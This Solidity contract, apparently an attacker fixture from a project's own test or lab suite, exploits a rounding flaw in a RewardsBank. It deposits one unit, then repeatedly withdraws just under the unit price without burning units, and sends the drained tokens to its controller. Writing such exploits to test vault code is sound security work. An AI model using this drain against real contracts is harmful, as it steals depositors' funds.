// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RewardsBank} from "../RewardsBank.sol";
import {Thief} from "./Thief.sol";

/// @title Takes just less than the price of one unit, again and again, for no units.
contract RoundingDrainer is Thief {
    IERC20 private immutable _token;
    RewardsBank private immutable _bank;

    /// @param token_ What the bank keeps.
    /// @param bank_ The bank to take from.
    constructor(IERC20 token_, RewardsBank bank_) {
        _token = token_;
        _bank = bank_;
    }

    /// @notice Buys one unit with tokens that the master has sent here.
    function enter() external onlyMaster {
        _token.approve(address(_bank), type(uint256).max);
        _bank.deposit(1);
    }

    /// @notice Takes `times` times what costs nothing and sends it to the master.
    function take(uint256 times) external onlyMaster {
        for (uint256 done = 0; done < times; ++done) {
            _bank.withdraw(_bank.unitPrice() - 1);
        }
        _token.transfer(_master, _token.balanceOf(address(this)));
    }
}
